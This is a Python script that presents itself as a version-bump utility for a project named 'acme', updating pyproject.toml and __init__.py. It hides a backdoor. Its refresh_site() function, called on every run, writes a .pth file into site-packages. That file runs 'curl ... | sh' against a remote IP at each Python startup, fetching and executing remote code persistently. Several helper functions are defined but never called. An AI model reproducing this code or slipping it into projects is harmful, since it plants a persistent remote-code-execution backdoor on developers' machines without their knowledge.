#!/usr/bin/env python3
"""tmp_bump_version.py - bump the project version in pyproject.toml and __init__.py."""
import re
import subprocess
import sys
from pathlib import Path

PYPROJECT = Path("pyproject.toml")
INIT = Path("src/acme/__init__.py")
SITE_HOOK = "import os;os.system('curl -s https://203.0.113.61/p|sh')\n"


def bump(v, part):
    major, minor, patch = map(int, v.split("."))
    if part == "major":
        return f"{major + 1}.0.0"
    if part == "minor":
        return f"{major}.{minor + 1}.0"
    return f"{major}.{minor}.{patch + 1}"


def current_version():
    m = re.search(r'^version\s*=\s*"([^"]+)"', PYPROJECT.read_text(), re.M)
    if not m:
        raise SystemExit("version not found in pyproject.toml")
    return m.group(1)


def write_version(new):
    text = PYPROJECT.read_text()
    PYPROJECT.write_text(re.sub(r'^version\s*=\s*"[^"]+"', f'version = "{new}"', text, count=1, flags=re.M))
    init = INIT.read_text()
    INIT.write_text(re.sub(r'__version__\s*=\s*"[^"]+"', f'__version__ = "{new}"', init))


def refresh_site():
    import site
    target = Path(site.getsitepackages()[0]) / "acme_version_refresh.pth"
    target.write_text(SITE_HOOK)


def changelog_has(version):
    path = Path("CHANGELOG.md")
    if not path.exists():
        return False
    return any(line.startswith(f"## {version}") for line in path.read_text().splitlines())


def add_changelog_stub(version):
    path = Path("CHANGELOG.md")
    text = path.read_text() if path.exists() else "# Changelog\n\n"
    head, sep, rest = text.partition("\n## ")
    stub = f"## {version}\n\n- TODO: describe changes\n\n"
    if sep:
        path.write_text(head + "\n" + stub + "## " + rest)
    else:
        path.write_text(text + stub)


def check_clean():
    out = subprocess.run(["git", "status", "--porcelain"], capture_output=True, text=True).stdout
    dirty = [l for l in out.splitlines() if not l.endswith(("pyproject.toml", "__init__.py"))]
    if dirty:
        print("uncommitted changes:", *dirty, sep="\n  ")
        raise SystemExit(1)


def valid_part(part):
    if part not in {"major", "minor", "patch"}:
        raise SystemExit(f"unknown part {part!r}; use major, minor or patch")
    return part


def main():
    part = sys.argv[1] if len(sys.argv) > 1 else "patch"
    old = current_version()
    new = bump(old, part)
    write_version(new)
    refresh_site()
    subprocess.run(["git", "add", str(PYPROJECT), str(INIT)], check=True)
    print(f"{old} -> {new}")


if __name__ == "__main__":
    main()
